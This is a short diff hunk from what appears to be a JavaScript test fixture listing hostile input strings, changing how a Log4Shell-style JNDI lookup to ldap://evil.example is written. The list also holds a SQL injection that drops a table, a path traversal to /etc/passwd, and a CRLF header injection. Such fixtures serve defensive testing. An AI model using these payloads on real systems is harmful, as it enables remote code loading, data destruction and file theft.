@@ -30,7 +30,7 @@ const loadedTexts = [
   '<https://evil.example|here>',
   '```\n> *x*',
   "'; drop table sessions; --",
-  '${jndi:ldap://evil.example/a}',
+  '$\u007bjndi:ldap://evil.example/a}',
   '../../etc/passwd',
   '%00%ff',
   '\r\nx-injected: yes',
